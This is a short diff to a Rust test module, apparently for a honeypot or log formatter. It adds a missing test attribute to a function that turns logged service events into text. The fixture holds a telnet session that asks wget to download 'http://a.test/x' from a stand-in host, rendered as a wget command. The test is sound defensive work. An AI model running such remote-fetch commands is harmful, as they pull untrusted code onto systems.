@@ -202,6 +202,7 @@ mod tests {
         check("syslog.message", logged, "auth, crit: su no");
     }
 
+    #[test]
     fn what_is_said_to_services_is_put_into_words() {
         let fetch = r#"{"protocol":"telnet","program":"wget","url":"http://a.test/x"}"#;
         check("download.asked", fetch, "wget http://a.test/x");
